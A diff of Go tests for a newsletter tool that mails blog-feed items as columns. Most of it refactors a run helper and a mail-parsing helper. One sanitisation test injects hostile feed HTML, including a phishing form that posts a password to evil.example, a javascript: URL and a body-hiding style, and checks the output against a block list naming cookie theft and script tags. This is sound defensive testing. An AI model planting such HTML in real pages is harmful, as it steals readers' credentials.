@@ -3,12 +3,10 @@ package main
 import (
 	"bytes"
 	"context"
-	"encoding/base64"
 	"flag"
 	"fmt"
 	"io"
 	"mime"
-	"mime/multipart"
 	"net/http"
 	"net/http/httptest"
 	"os"
@@ -90,10 +88,13 @@ func newFeedFixture(t *testing.T, subscribers int, feedURL string) (*sendFixture
 	return f, env
 }
 
-func runWith(env map[string]string, args ...string) (stdout, stderr string, code int) {
+// runWith runs the program as `newsletter ARGS…` with the settings in env
+// (NEWSLETTER_* variables; nil for none) and stdin, and returns what it
+// wrote and its exit status: the one way these tests call run.
+func runWith(env map[string]string, stdin string, args ...string) (stdout, stderr string, code int) {
 	var out, errb bytes.Buffer
 	code = run(context.Background(), append([]string{"newsletter"}, args...), func(k string) string { return env[k] },
-		strings.NewReader(""), &out, &errb)
+		strings.NewReader(stdin), &out, &errb)
 	return out.String(), errb.String(), code
 }
 
@@ -115,7 +116,7 @@ func TestSendFromFeed(t *testing.T) {
 	feed.add(2, "<p>Zwei.</p>")
 	f, env := newFeedFixture(t, 3, feed.URL+"/feed.xml")
 
-	out, errOut, code := runWith(env, "columns")
+	out, errOut, code := runWith(env, "", "columns")
 	if code != 0 {
 		t.Fatalf("columns: %d\n%s%s", code, out, errOut)
 	}
@@ -130,13 +131,13 @@ func TestSendFromFeed(t *testing.T) {
 	}
 
 	// First run: only the newest item.
-	if out, errOut, code := runWith(env, "send"); code != 0 {
+	if out, errOut, code := runWith(env, "", "send"); code != 0 {
 		t.Fatalf("send: %d\n%s%s", code, out, errOut)
 	}
 	if got := fmt.Sprint(columnCounts(t, f)); got != "map[KNIEPUNKT 002: Folge 2:3]" {
 		t.Fatalf("first run sent %s", got)
 	}
-	out, _, _ = runWith(env, "send")
+	out, _, _ = runWith(env, "", "send")
 	if !strings.Contains(out, "Nothing to send: the newest column, 002, already has its campaign") {
 		t.Errorf("second send:\n%s", out)
 	}
@@ -158,14 +159,14 @@ func TestSendFromFeed(t *testing.T) {
 		t.Run(tt.name, func(t *testing.T) {
 			feed.set(tt.set)
 			defer feed.set(func(b *blogFeed) { b.status, b.body = 0, "" })
-			out, errOut, code := runWith(env, "send")
+			out, errOut, code := runWith(env, "", "send")
 			if code != 1 || !strings.Contains(errOut, "could not be read: "+tt.want) || !strings.Contains(errOut, "nothing new was sent") {
 				t.Fatalf("send: %d\n%s%s", code, out, errOut)
 			}
 			if strings.Count(errOut, "newsletter: ") != 1 {
 				t.Errorf("want one error line:\n%s", errOut)
 			}
-			out, errOut, code = runWith(env, "columns")
+			out, errOut, code = runWith(env, "", "columns")
 			if code != 0 || !strings.Contains(errOut, tt.want) || !strings.Contains(out, "Next: nothing new; feed http://") ||
 				!strings.Contains(out, "feed item (feed not read)") {
 				t.Errorf("columns: %d\n%s%s", code, out, errOut)
@@ -178,19 +179,19 @@ func TestSendFromFeed(t *testing.T) {
 
 	// Back, with item 2 changed: only the new item goes out.
 	feed.set(func(b *blogFeed) { b.items[1] = strings.Replace(b.items[1], "Zwei.", "Zwei, neu geschrieben.", 1) })
-	if out, errOut, code := runWith(env, "send"); code != 0 {
+	if out, errOut, code := runWith(env, "", "send"); code != 0 {
 		t.Fatalf("send: %d\n%s%s", code, out, errOut)
 	}
 	if got := fmt.Sprint(columnCounts(t, f)); got != "map[KNIEPUNKT 002: Folge 2:3 KNIEPUNKT 003: Folge 3:3]" {
 		t.Fatalf("after a new item: %s", got)
 	}
-	if _, errOut, code := runWith(env, "send", "--column", "2"); code != 1 || !strings.Contains(errOut, "already sent") {
+	if _, errOut, code := runWith(env, "", "send", "--column", "2"); code != 1 || !strings.Contains(errOut, "already sent") {
 		t.Errorf("resend of 002: %d %s", code, errOut)
 	}
 
 	// An item that leaves the feed stays sent.
 	feed.set(func(b *blogFeed) { b.items = b.items[:1] })
-	out, _, _ = runWith(env, "columns")
+	out, _, _ = runWith(env, "", "columns")
 	if !strings.Contains(out, "feed item (gone from the feed)") || !strings.Contains(out, "sent (3 sent, 0 failed)") {
 		t.Errorf("columns after item 2 left the feed:\n%s", out)
 	}
@@ -207,42 +208,6 @@ func columnsRow(out, number string) string {
 	return ""
 }
 
-// mailParts returns the decoded text and HTML parts of a message.
-func mailParts(t *testing.T, data []byte) (text, html string) {
-	t.Helper()
-	msg := testkit.ParseMail(t, data)
-	_, params, err := mime.ParseMediaType(msg.Header.Get("Content-Type"))
-	if err != nil {
-		t.Fatal(err)
-	}
-	mr := multipart.NewReader(msg.Body, params["boundary"])
-	for {
-		p, err := mr.NextPart()
-		if err == io.EOF {
-			break
-		}
-		if err != nil {
-			t.Fatal(err)
-		}
-		var r io.Reader = p // quoted-printable is decoded by NextPart
-		if strings.EqualFold(p.Header.Get("Content-Transfer-Encoding"), "base64") {
-			r = base64.NewDecoder(base64.StdEncoding, p)
-		}
-		b, err := io.ReadAll(r)
-		if err != nil {
-			t.Fatal(err)
-		}
-		ct, _, _ := mime.ParseMediaType(p.Header.Get("Content-Type"))
-		switch ct {
-		case "text/plain":
-			text = string(b)
-		case "text/html":
-			html = string(b)
-		}
-	}
-	return text, html
-}
-
 // An item written to attack the readers arrives harmless in both parts.
 func TestFeedItemIsMadeSafe(t *testing.T) {
 	feed := newBlogFeed(t)
@@ -253,14 +218,15 @@ func TestFeedItemIsMadeSafe(t *testing.T) {
 		`<style>body{display:none}</style><form action="https://evil.example/login"><input name="pw" value="Passwort"></form>`+
 		`<p style="background:url(javascript:x)">Ende.</p>`)
 	f, env := newFeedFixture(t, 1, feed.URL)
-	if out, errOut, code := runWith(env, "send"); code != 0 {
+	if out, errOut, code := runWith(env, "", "send"); code != 0 {
 		t.Fatalf("send: %d\n%s%s", code, out, errOut)
 	}
 	msgs := f.srv.Messages()
 	if len(msgs) != 1 {
 		t.Fatalf("%d messages", len(msgs))
 	}
-	text, html := mailParts(t, msgs[0].Data)
+	rm := testkit.ReadMail(t, msgs[0].Data)
+	text, html := rm.Text, rm.HTML
 	for _, part := range []struct{ name, s string }{{"text", text}, {"HTML", html}} {
 		low := strings.ToLower(part.s)
 		for _, bad := range []string{"javascript:", "<script", "document.cookie", "onerror", "onclick", "steal(", "<iframe", "evil.example", "<form", "<input", "body{display", "rahmentext"} {
@@ -286,7 +252,7 @@ func TestPreviewFeedItemGolden(t *testing.T) {
 	_ = f
 	env["NEWSLETTER_IMPRINT"] = "Kniepunkt Verlag, Musterstraße 1, 12345 Musterstadt"
 	for _, part := range []struct{ flag, golden string }{{"--text", "feed-032.golden.txt"}, {"--html", "feed-032.golden.html"}} {
-		out, errOut, code := runWith(env, "preview", "32", part.flag)
+		out, errOut, code := runWith(env, "", "preview", "32", part.flag)
 		if code != 0 {
 			t.Fatalf("preview: %d %s", code, errOut)
 		}
@@ -305,11 +271,11 @@ func TestPreviewFeedItemGolden(t *testing.T) {
 			t.Errorf("%s differs (go test -update rewrites it); got:\n%s", path, out)
 		}
 	}
-	out, _, code := runWith(env, "preview")
+	out, _, code := runWith(env, "", "preview")
 	if code != 0 || !strings.Contains(out, "File:    https://blog.example.org/2026/03/strom-frisst-zukunft/\nNumber:  032\n") {
 		t.Errorf("preview of the newest:\n%s", out)
 	}
-	out, _, _ = runWith(env, "columns")
+	out, _, _ = runWith(env, "", "columns")
 	if columnsRow(out, "031") != "031 Heiße KI-Luft 2026-03-16 blog.example.org/2026/03/heisse-ki-luft/ skipped" {
 		t.Errorf("columns:\n%s", out)
 	}
@@ -330,17 +296,17 @@ func TestFeedSetting(t *testing.T) {
 	for _, tt := range tests {
 		t.Run(tt.name, func(t *testing.T) {
 			env := map[string]string{"NEWSLETTER_COLUMNS": dir, "NEWSLETTER_DB": filepath.Join(dir, "n.db")}
-			_, errOut, code := runWith(env, "columns", "--feed", tt.value)
+			_, errOut, code := runWith(env, "", "columns", "--feed", tt.value)
 			if code != tt.code || !strings.Contains(errOut, tt.want) {
 				t.Fatalf("code %d, stderr %q", code, errOut)
 			}
 		})
 	}
-	_, errOut, _ := runWith(map[string]string{}, "columns", "--feed", "https://user:geheim@/x")
+	_, errOut, _ := runWith(nil, "", "columns", "--feed", "https://user:geheim@/x")
 	if strings.Contains(errOut, "geheim") {
 		t.Errorf("the password shows: %s", errOut)
 	}
-	out, _, _ := runWith(map[string]string{}, "serve", "--help")
+	out, _, _ := runWith(nil, "", "serve", "--help")
 	if !strings.Contains(out, "--feed") || !strings.Contains(out, "NEWSLETTER_FEED") {
 		t.Errorf("serve --help lacks --feed:\n%s", out)
 	}
